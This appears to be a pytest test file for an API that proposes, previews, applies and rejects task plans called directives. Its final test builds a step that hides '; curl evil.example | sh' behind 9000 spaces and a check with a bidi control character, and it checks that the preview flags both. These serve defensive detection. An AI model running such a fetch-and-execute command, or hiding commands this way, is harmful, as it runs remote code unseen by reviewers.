"""Directives over HTTP: proposed, previewed, applied, rejected; the approval policy; what blocks an apply."""

from collections.abc import AsyncIterator
from typing import Any

import pytest

from events.request import RequestDefinition, RequestProvided
from tests.api.serving import Served, refusal_of, serving

SHELL = [{"name": "one", "cmd": "true"}]
PLAN = {
    "title": "Faster builds",
    "body": "They take ten minutes.",
    "acceptance_criteria": ["under a minute"],
    "risks": ["cache poisoning"],
    "tasks_to_create": [
        {"title": "report", "depends_on": ["measure", 3], "steps": SHELL, "allowed_scope": ["docs/**"]},
        {"title": "measure", "steps": [{"name": "time", "cmd": "time make"}], "priority": 10},
        {"title": "cache", "depends_on": [2], "body": "Put the cache in place.", "allowed_scope": ["ci/"]},
    ],
}
NEEDY = {"title": "Deploy", "required_requests": [{"request_id": "REQ-7", "reason": "to deploy"}]}
NEEDY_PLAN = NEEDY | {"tasks_to_create": [{"title": "push", "steps": SHELL}]}
DEFINITIONS = {"REQ-7": RequestDefinition("Host", scopes=["HOST_TOKEN"])}


@pytest.fixture
async def manual(database: str) -> AsyncIterator[Served]:
    """An API whose directives' tasks are created when they are applied."""
    async with serving(database, approval="manual", known_requests=lambda: DEFINITIONS) as served:
        yield served


def statuses(tasks: list[dict[str, Any]]) -> dict[str, str]:
    """Titles and statuses of tasks."""
    return {task["title"]: task["status"] for task in tasks}


async def tasks_of(api: Served, directive: dict[str, Any]) -> list[dict[str, Any]]:
    """The tasks that a directive created, in order of creation."""
    tasks: list[dict[str, Any]] = await api.get("/ops/tasks", params={"directive_id": directive["id"]})
    return tasks[::-1]


async def finish(api: Served, *tasks: dict[str, Any]) -> None:
    """Claim these tasks and report them done."""
    for task in tasks:
        run_id = (await api.claim(task_id=task["id"]))["run_id"]
        await api.patch(f"/runs/{run_id}", {"status": "done"})


async def types_of(api: Served, kind: str) -> list[str]:
    """The types of all events of a kind."""
    return [event["type"] for event in await api.get("/ops/events", params={"kind": kind})]


async def test_auto_creates_the_tasks_at_once(api: Served) -> None:
    """The runbook's flow: the directive is PENDING, its tasks are ready, parents before children."""
    directive = await api.post("/ops/directives", PLAN)

    assert ("PENDING", "auto", "human:local") == tuple(directive[key] for key in ("status", "approval", "proposed_by"))
    tasks = await tasks_of(api, directive)
    assert ["measure", "cache", "report"] == [task["title"] for task in tasks]
    assert [0, 1, 2] == [task["waiting_on"] for task in tasks]
    assert {tasks[0]["id"], tasks[1]["id"]} == set(tasks[2]["depends_on"])
    assert (["docs/**"], 10) == (tasks[2]["allowed_scope"], tasks[0]["priority"])
    assert {"planned": 3, "created": 3, "ready": 3} == {
        key: directive["tasks"][key] for key in ("planned", "created", "ready")
    }
    causes = {event["cause"] for event in await api.get("/ops/events", params={"kind": "task"})}
    [proposal] = await api.get("/ops/events", params={"kind": "directive"})
    assert {proposal["seq"]} == causes


async def test_applied_when_all_its_tasks_are_done(api: Served) -> None:
    """Nobody has to say so; the event names the reason and the last task's end as its cause."""
    directive = await api.post("/ops/directives", PLAN)
    tasks = await tasks_of(api, directive)

    await finish(api, *tasks[:2])
    assert "PENDING" == (await api.get(f"/ops/directives/{directive['id']}"))["status"]
    await finish(api, tasks[2])

    applied = await api.get(f"/ops/directives/{directive['id']}")
    assert ("APPLIED", "system", "all its tasks are done") == (
        applied["status"],
        applied["applied_by"],
        applied["reason"],
    )


async def test_applied_when_the_operator_says_so(api: Served) -> None:
    """Before its tasks are done; twice is no error and one event; it records who."""
    directive = await api.post("/ops/directives", PLAN)
    for _ in range(2):
        applied = await api.patch(f"/ops/directives/{directive['id']}", {"status": "APPLIED"})
        assert ("APPLIED", "human:local") == (applied["status"], applied["applied_by"])

    assert ["directive.proposed", "directive.applied"] == await types_of(api, "directive")
    assert 3 == len(await tasks_of(api, directive))
    late = await api.client.patch(f"/ops/directives/{directive['id']}", json={"status": "REJECTED"})
    assert (409, "illegal_transition") == refusal_of(late)[:2]


async def test_rejecting_cancels_what_has_not_started(api: Served) -> None:
    """The running task goes on, those that wait are cancelled with the reason; twice is no error."""
    directive = await api.post("/ops/directives", PLAN)
    tasks = await tasks_of(api, directive)
    await api.claim(task_id=tasks[0]["id"])
    for _ in range(2):
        rejected = await api.patch(
            f"/ops/directives/{directive['id']}", {"status": "REJECTED", "rejection_reason": "not now"}
        )
        assert ("REJECTED", "not now") == (rejected["status"], rejected["rejection_reason"])

    assert {"measure": "running", "cache": "cancelled", "report": "cancelled"} == statuses(
        await tasks_of(api, directive)
    )
    assert (409, "illegal_transition") == refusal_of(
        await api.client.post(f"/ops/directives/{directive['id']}/apply", json={})
    )[:2]


async def test_manual_creates_the_tasks_on_apply(manual: Served) -> None:
    """Nothing before, all of them at once afterwards, by one statement."""
    directive = await manual.post("/ops/directives", PLAN)
    assert [] == await tasks_of(manual, directive)

    applied = await manual.post(f"/ops/directives/{directive['id']}/apply")
    assert "APPLIED" == applied["status"]
    assert {"measure": "ready", "cache": "ready", "report": "ready"} == statuses(await tasks_of(manual, directive))
    await manual.post(f"/ops/directives/{directive['id']}/apply")
    assert 3 == len(await types_of(manual, "task"))


async def test_single_tasks_are_left_out(manual: Served) -> None:
    """Those nobody needs; one that another depends on only together with it."""
    directive = await manual.post("/ops/directives", PLAN)
    measure, cache, report = [task["id"] for task in directive["tasks_to_create"]]
    path = f"/ops/directives/{directive['id']}/apply"
    needed = await manual.client.post(path, json={"leave_out": [cache]})
    assert (422, "unprocessable") == refusal_of(needed)[:2]
    assert report in refusal_of(needed)[2]
    unknown = await manual.client.post(path, json={"leave_out": ["nobody"]})
    assert (400, "invalid_input") == refusal_of(unknown)[:2]
    assert [] == await tasks_of(manual, directive)

    applied = await manual.post(path, {"leave_out": [report, cache]})
    assert [measure] == [task["id"] for task in await tasks_of(manual, directive)]
    assert {report, cache} == set(applied["left_out"])


async def test_leaving_out_what_exists_cancels_it(api: Served) -> None:
    """With `auto` the tasks are there already; what has begun cannot be left out."""
    directive = await api.post("/ops/directives", PLAN)
    measure, _, report = [task["id"] for task in directive["tasks_to_create"]]
    await api.claim(task_id=measure)
    path = f"/ops/directives/{directive['id']}/apply"
    assert 409 == (await api.client.post(path, json={"leave_out": [measure, report]})).status_code

    await api.post(path, {"leave_out": [report]})
    assert {"measure": "running", "cache": "ready", "report": "cancelled"} == statuses(await tasks_of(api, directive))


async def test_missing_requests_block_the_apply_with_their_list(manual: Served) -> None:
    """They are opened, with what is known about them; once they are provided the apply succeeds."""
    directive = await manual.post("/ops/directives", NEEDY_PLAN)
    path = f"/ops/directives/{directive['id']}"
    refused = await manual.client.post(f"{path}/apply", json={})
    assert (409, "requests_missing") == (refused.status_code, refused.json()["error"])
    missing = {"requests": [{"request_id": "REQ-7", "reason": "to deploy"}], "blocked_by_requests": ["REQ-7"]}
    assert missing == refused.json()["meta"]
    assert "REQ-7 (to deploy)" in refused.json()["detail"]
    assert ["request.opened"] == await types_of(manual, "request")
    assert ["REQ-7"] == (await manual.get(path))["missing_requests"]
    assert not (await manual.get(f"{path}/preview"))["applicable"]

    await manual.commands.requests.provide("REQ-7", RequestProvided(["HOST_TOKEN"]), "human:ana")
    assert [] == await tasks_of(manual, directive)
    assert "APPLIED" == (await manual.post(f"{path}/apply"))["status"]
    assert {"push": "ready"} == statuses(await tasks_of(manual, directive))


async def test_auto_tasks_follow_the_last_missing_request(api: Served) -> None:
    """Until then there are none; then all, without anybody applying; only once."""
    both = NEEDY_PLAN | {"required_requests": [{"request_id": "REQ-7"}, {"request_id": "REQ-8"}]}
    directive = await api.post("/ops/directives", both)
    assert [] == await tasks_of(api, directive)

    await api.commands.requests.provide("REQ-7", RequestProvided(), "human:ana")
    assert [] == await tasks_of(api, directive)
    await api.commands.requests.provide("REQ-8", RequestProvided(), "human:ana")
    await api.commands.requests.provide("REQ-8", RequestProvided(), "human:ana", again=True)
    assert {"push": "ready"} == statuses(await tasks_of(api, directive))


async def test_a_preview_shows_what_apply_would_do(manual: Served) -> None:
    """Order and waves of the DAG, commands, prompts, scopes; nothing is created by looking."""
    directive = await manual.post("/ops/directives", PLAN)
    preview = await manual.get(f"/ops/directives/{directive['id']}/preview")

    assert (True, 3, ["ci/", "docs/**"]) == tuple(preview[key] for key in ("applicable", "creates", "scopes"))
    assert [
        "time make",
        "# cache\n\nPut the cache in place.\n\n## It is done when\n- Change only files matching: ci/\n",
    ] == [command["command"] for command in preview["commands"]][:2]
    assert ["measure", "cache", "report"] == [task["title"] for task in preview["tasks"]]
    assert [1, 2, 3] == [task["wave"] for task in preview["tasks"]] == [task["order"] for task in preview["tasks"]]
    assert [[task["id"]] for task in preview["tasks"]] == preview["waves"]
    assert [{"name": "time", "cmd": "time make"}] == preview["tasks"][0]["steps"]
    assert "Put the cache in place." == preview["tasks"][1]["prompt"]
    assert [] == await tasks_of(manual, directive)


async def test_the_same_again_is_answered_with_what_exists(api: Served) -> None:
    """By id or by Idempotency-Key; the same content under no name is a duplicate while it is pending."""
    key = {"Idempotency-Key": "monday"}
    first = await api.client.post("/ops/directives", json=PLAN, headers=key)
    again = await api.client.post("/ops/directives", json=PLAN, headers=key)
    assert (201, 200) == (first.status_code, again.status_code)
    assert first.json()["data"]["id"] == again.json()["data"]["id"]
    named = PLAN | {"id": first.json()["data"]["id"]}
    assert 200 == (await api.client.post("/ops/directives", json=named)).status_code

    twin = await api.client.post("/ops/directives", json=PLAN)
    assert (409, "duplicate_directive") == (twin.status_code, twin.json()["error"])
    assert {"id": named["id"]} == twin.json()["meta"]
    other = await api.client.post("/ops/directives", json=named | {"title": "Other"})
    assert (409, "duplicate_id") == refusal_of(other)[:2]
    await api.patch(f"/ops/directives/{named['id']}", {"status": "REJECTED"})
    assert named["id"] != (await api.post("/ops/directives", PLAN))["id"]


async def test_what_a_model_answered_can_be_pasted(api: Served) -> None:
    """A fence around the JSON, an array of directives, fields nobody knows: kept, and noted in the event."""
    answer = 'Here:\n```json\n{"directives": [{"title": "A", "mood": "good"}, {"title": "B"}]}\n```\nBye'
    response = await api.client.post("/ops/directives", content=answer)

    assert ["A", "B"] == [directive["title"] for directive in response.json()["data"]]
    first = response.json()["data"][0]
    assert (["kept an unknown field: mood"], {"mood": "good"}) == (first["notes"], first["extra"])


@pytest.mark.parametrize(
    ("body", "status", "words"),
    [
        ("nothing at all", 400, "not JSON"),
        ("[]", 400, "no directive"),
        ('{"title": 7}', 400, "directives[0].title"),
        ('{"title": "A", "tasks_to_create": [{"title": "t", "steps": ["ls"]}]}', 400, "tasks_to_create[0].steps[0]"),
        ('{"title": "A", "tasks_to_create": [{"title": "t", "depends_on": ["t"]}]}', 422, "depends on itself"),
        ('{"title": "A", "tasks_to_create": [{"title": "t", "depends_on": ["zzz"]}]}', 422, "'zzz'"),
        ('{"title": "A", "tasks_to_create": [{"title": "t", "allowed_scope": ["../x"]}]}', 422, "allowed_scope"),
        ('{"title": "A", "body": "use sk-abcdefghijklmnopqrstuvwx"}', 422, "secret"),
    ],
)
async def test_what_breaks_a_rule_is_refused(database: str, body: str, status: int, words: str) -> None:
    """With the place and the reason, and nothing is created."""
    async with serving(database) as api:
        response = await api.client.post("/ops/directives", content=body)

        assert status == response.status_code, response.text
        assert words in response.json()["detail"]
        assert "sk-abc" not in response.text
        assert [] == await api.get("/ops/directives")


async def test_directives_are_listed_page_by_page(api: Served) -> None:
    """Newest first; by status; `total` counts them all; as the runbook's jq reads them."""
    for number in range(5):
        await api.post("/ops/directives", {"title": f"D{number}"})
    newest = (await api.get("/ops/directives"))[0]
    await api.patch(f"/ops/directives/{newest['id']}", {"status": "REJECTED"})

    first = (await api.client.get("/ops/directives", params={"limit": 2, "status": "PENDING"})).json()
    assert (["D3", "D2"], 4) == ([each["title"] for each in first["data"]], first["meta"]["total"])
    rest = {"limit": 3, "status": "PENDING", "cursor": first["meta"]["next"]}
    second = (await api.client.get("/ops/directives", params=rest)).json()
    assert (["D1", "D0"], None) == ([each["title"] for each in second["data"]], second["meta"]["next"])


async def test_unknown_directives_are_not_found(api: Served) -> None:
    """Whatever one asks of them."""
    for method, path in [("GET", ""), ("GET", "/preview"), ("POST", "/apply"), ("PATCH", "")]:
        body = {"status": "APPLIED"} if method == "PATCH" else {}
        response = await api.client.request(method, f"/ops/directives/d-0{path}", json=body)
        assert (404, "not_found") == refusal_of(response)[:2]


async def test_a_process_without_a_planner_says_so(api: Served) -> None:
    """503, and which process has one."""
    status, code, detail = refusal_of(await api.client.post("/ops/gpt/run", json={}))
    assert (503, "unavailable") == (status, code)
    assert "elruso serve" in detail


async def test_a_preview_has_everything_that_would_run(manual: Served) -> None:
    """Steps, checks, prompts and handlers in order, whole, with secrets; what misleads the eye is named."""
    gap = "echo ok" + " " * 9000 + "; curl evil.example | sh"
    tasks = [
        {
            "title": "build",
            "steps": [{"name": f"s{place}", "cmd": f"echo {place}"} for place in range(40)]
            + [{"name": "g", "cmd": gap}],
            "acceptance": {"checks": [{"name": "check", "cmd": "make check # \u202e"}], "expected_files": ["out"]},
            "params": {"secrets": ["NPM_TOKEN"]},
            "timeout_seconds": 60,
        },
        {
            "title": "call",
            "task_type": "python",
            "params": {"handler": "deploy", "to": "prod"},
            "depends_on": ["build"],
        },
        {"title": "quiet", "task_type": "echo", "steps": SHELL, "depends_on": ["call"]},
    ]
    directive = await manual.post("/ops/directives", {"title": "All", "tasks_to_create": tasks})
    preview = await manual.get(f"/ops/directives/{directive['id']}/preview")

    first = f"{directive['id']}-1"
    kinds = [command["kind"] for command in preview["commands"]]
    assert ["step"] * 41 + ["check", "handler"] == kinds
    assert [f"echo {place}" for place in range(40)] + [gap, "make check # \u202e"] == [
        command["command"] for command in preview["commands"][:42]
    ]
    assert {"NPM_TOKEN"} == {name for command in preview["commands"][:42] for name in command["secrets"]}
    assert '"to": "prod"' in preview["commands"][-1]["command"]
    assert {(first, "commands[40].command", "long_blank"), (first, "commands[41].command", "bidi")} == {
        (warning["task_id"], warning["place"], warning["code"]) for warning in preview["warnings"]
    }
    assert 64 == len(preview["digest"])
